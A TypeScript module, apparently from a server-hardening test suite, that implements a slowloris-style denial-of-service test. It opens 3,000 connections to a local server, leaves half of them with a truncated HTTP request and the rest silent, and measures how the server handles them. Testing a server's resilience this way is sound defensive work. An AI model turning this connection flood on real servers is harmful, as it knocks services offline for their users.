import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from './attack.ts';

/** The system queues only some hundred connections for a server. */
const workerCount = 100;
const connectionsPerWorker = 30;
/** In this time the server has seen the last connections. */
const settlingMs = 1_000;

/**
 * Attack 9: opens 3,000 connections; every other one sends half a request, the others send nothing. Resolves when
 * the server has closed them all, or when the attack ends.
 */
export const incompleteRequests: Attack = async ({ origin, nextAddress, signal }) => {
  const port = Number(new URL(origin).port);
  const open = new Set<Socket>();
  let connected = 0;
  let longestMs = 0;
  const openConnection = async (): Promise<void> => {
    const socket = connect({ host: '127.0.0.1', port, localAddress: nextAddress() });
    socket.on('error', () => socket.destroy());
    await once(socket, 'connect');
    const startedAt = performance.now();
    connected += 1;
    open.add(socket);
    socket.on('close', () => {
      open.delete(socket);
      longestMs = Math.max(longestMs, performance.now() - startedAt);
    });
    socket.resume();
    if (connected % 2 === 0) socket.write('GET / HTTP/1.1\r\nHost: localhost\r\nX-Part');
  };
  await Promise.all(
    Array.from({ length: workerCount }, async () => {
      for (let count = 0; count < connectionsPerWorker; count += 1) await openConnection();
    }),
  );
  await delay(settlingMs);
  const kept = open.size;
  const allClosed = Promise.all([...open].map((socket) => once(socket, 'close')));
  await Promise.race([allClosed, once(signal, 'abort')]);
  return { connected, kept, longestMs: Math.round(longestMs), stillOpen: open.size };
};
